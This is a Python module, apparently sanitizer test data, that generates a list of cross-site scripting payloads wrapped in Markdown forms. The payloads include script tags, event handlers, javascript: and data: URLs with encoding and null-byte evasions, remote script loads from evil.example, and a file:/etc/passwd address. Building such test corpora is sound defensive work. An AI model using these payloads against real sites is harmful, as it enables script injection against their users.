# ruff: noqa: E501 - a payload is not cut
"""What is typed to make a page run something: tags, handlers and addresses, each in several Markdown dresses."""

_CODE = "alert(1)"
_TAGS = (
    "<script>{c}</script>", "<SCRIPT SRC=//evil.example/x.js></SCRIPT>", "<scr<script>ipt>{c}</script>",
    "<script/x>{c}</script>", "<script\n>{c}</script\n>", "<svg onload={c}>", "<svg/onload={c}//", "<svg><script>{c}",
    "<svg><a xlink:href='javascript:{c}'>x</a></svg>", "<svg><animate onbegin={c} attributeName=x>", "<img src=x onerror={c}>",
    "<img src=x onerror='{c}'", "<img/src/onerror={c}>", "<img src='javascript:{c}'>", "<image href=x onerror={c}>",
    "<body onload={c}>", "<iframe src=javascript:{c}>", "<iframe srcdoc='<script>{c}</script>'>", "<object data=javascript:{c}>",
    "<embed src=javascript:{c}>", "<math><mi xlink:href='javascript:{c}'>x", "<details open ontoggle={c}>x</details>",
    "<input autofocus onfocus={c}>", "<select autofocus onfocus={c}>", "<textarea autofocus onfocus={c}>",
    "<video><source onerror={c}>", "<audio src=x onerror={c}>", "<marquee onstart={c}>", "<form action=javascript:{c}><button>x",
    "<button formaction=javascript:{c}>x", "<isindex action=javascript:{c}>", "<a href='javascript:{c}'>x</a>",
    "<a href=data:text/html,<script>{c}</script>>x</a>", "<a onclick={c} href=#>x</a>", "<base href=javascript:{c}//>",
    "<link rel=stylesheet href=//evil.example/x.css>", "<meta http-equiv=refresh content='0;url=javascript:{c}'>",
    "<style>@import '//evil.example/x.css';</style>", "<div style='background:url(javascript:{c})'>x</div>",
    "<p style=x:expression({c})>", "<template><script>{c}</script></template>", "<noscript><p title='</noscript><img src=x onerror={c}>'>",
    "<!--><img src=x onerror={c}>-->", "<![CDATA[<script>{c}</script>]]>", "<?xml version='1.0'?><script>{c}</script>",
    "<title><script>{c}</script></title>", "<xmp><img src=x onerror={c}></xmp>", "<x onpointerenter={c}>x</x>",
    "<p id=x tabindex=0 onfocus={c}>x", "&lt;script&gt;{c}&lt;/script&gt;", "&#60;script&#62;{c}&#60;/script&#62;",
    "\x00<script>{c}</script>", "<scr\x00ipt>{c}</scr\x00ipt>", "＜script＞{c}＜/script＞",
)  # fmt: skip
_ADDRESSES = (
    "javascript:{c}", "JaVaScRiPt:{c}", " javascript:{c}", "java\tscript:{c}", "java\nscript:{c}", "java&#9;script:{c}",
    "&#106;avascript:{c}", "&#x6A;avascript:{c}", "javascript&colon;{c}", "javascript&#58;{c}", "\x01javascript:{c}",
    "jav%61script:{c}", "vbscript:msgbox(1)", "data:text/html;base64,PHNjcmlwdD4=", "data:text/html,<script>{c}</script>",
    "data:image/svg+xml,<svg onload={c}>", "file:/etc/passwd", "blob:https://x/y", "view-source:javascript:{c}",
    "feed:javascript:{c}", "//evil.example", "/\\evil.example", "\\\\evil.example", "https:\\\\evil.example", "x-y:z",
    "https://a.example/\" onmouseover=\"{c}", "https://a.example/' onmouseover='{c}", "https://a.example/><script>{c}</script>",
)  # fmt: skip
_TAG_DRESSES = ("{t}", "# {t}", "- {t}", "> {t}", "| a |\n|---|\n| {t} |", "**{t}**", "`{t}`", "```{t}\n{t}\n```")
_ADDRESS_DRESSES = (
    "[x]({a})",
    "[x](<{a}>)",
    "<{a}>",
    "![x]({a})",
    "[x][1]\n\n[1]: {a}",
    '[x](https://a.example "{a}")',
)

PAYLOADS = [
    dress.format(t=tag.format(c=_CODE)) for tag in _TAGS for dress in _TAG_DRESSES
] + [
    dress.format(a=address.format(c=_CODE)) for address in _ADDRESSES for dress in _ADDRESS_DRESSES
]  # fmt: skip
